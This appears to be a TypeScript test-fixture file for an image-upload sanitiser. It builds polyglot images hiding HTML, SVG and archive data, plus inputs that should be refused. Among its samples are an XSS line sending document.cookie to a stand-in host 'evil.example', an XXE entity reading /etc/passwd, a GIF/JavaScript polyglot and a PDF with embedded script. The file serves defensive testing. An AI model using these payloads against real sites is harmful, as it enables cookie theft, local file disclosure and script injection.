/** Files with two meanings: a picture to a viewer, something else to a program that is made to open it as such. */
import { plain } from "./pictures.ts";

export const script = "<script>fetch('//evil.example/'+document.cookie)</script>";
const page = `<!doctype html><html><body>${script}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
/** The mark at the end of an archive, which is read from its end. */
const archive = Buffer.from(`PK\x03\x04evil.class${"\0".repeat(40)}PK\x05\x06${"\0".repeat(18)}`, "latin1");

const pictureOf = (type: "png" | "jpeg" | "webp"): Promise<Buffer> => plain(48, 48).toFormat(type).toBuffer();

/** A RIFF chunk behind the picture's own ones, counted in the head as it should be. */
const withRiffChunk = (webp: Buffer, type: string, text: string): Buffer => {
  const data = Buffer.from(text.length % 2 === 0 ? text : `${text} `);
  const head = Buffer.alloc(8);
  head.write(type, "latin1");
  head.writeUInt32LE(data.length, 4);
  const whole = Buffer.concat([webp, head, data]);
  whole.writeUInt32LE(whole.length - 8, 4);
  return whole;
};

/** Real pictures that carry more: taken, and only their pixels are kept. */
export const taken = async (): Promise<Record<string, Buffer>> => {
  const [png, jpeg, webp] = await Promise.all([pictureOf("png"), pictureOf("jpeg"), pictureOf("webp")]);
  return {
    "a PNG that is a page": Buffer.concat([png, Buffer.from(page)]),
    "a JPEG that is an archive": Buffer.concat([jpeg, archive]),
    "a JPEG with a page as its comment": Buffer.concat([
      jpeg.subarray(0, 2),
      Buffer.from([0xff, 0xfe, 0, page.length + 2]),
      Buffer.from(page),
      jpeg.subarray(2),
    ]),
    "a WebP with an SVG in it": withRiffChunk(webp, "XMP ", svg),
    "a WebP that is an SVG behind": Buffer.concat([webp, Buffer.from(svg)]),
    "a PNG with words about a script": await plain(48, 48).withXmp(page).png().toBuffer(),
  };
};

/** No pictures, or none of the three types. */
export const refused = async (): Promise<Record<string, Buffer | string>> => {
  const [png, jpeg] = await Promise.all([pictureOf("png"), pictureOf("jpeg")]);
  return {
    "a GIF that is a script": Buffer.from("GIF89a/*\x01\0\0\0*/=1;alert(1)", "latin1"),
    "a plain GIF": Buffer.from("R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==", "base64"),
    "an SVG with a script": svg,
    "an SVG that reads a file":
      '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "a page": page,
    "a page before a PNG": Buffer.concat([Buffer.from(page), png]),
    "a PDF": "%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj",
    "an archive": archive,
    "the head of a PNG and a page": Buffer.concat([png.subarray(0, 8), Buffer.from(page)]),
    "the head of a JPEG and a page": Buffer.concat([jpeg.subarray(0, 3), Buffer.from(page)]),
    "the head of a WebP and an SVG": Buffer.from(`RIFF\xff\0\0\0WEBP${svg}`, "latin1"),
    "half a PNG": png.subarray(0, png.length / 2),
    "half a JPEG": jpeg.subarray(0, jpeg.length / 2),
    nothing: "",
  };
};
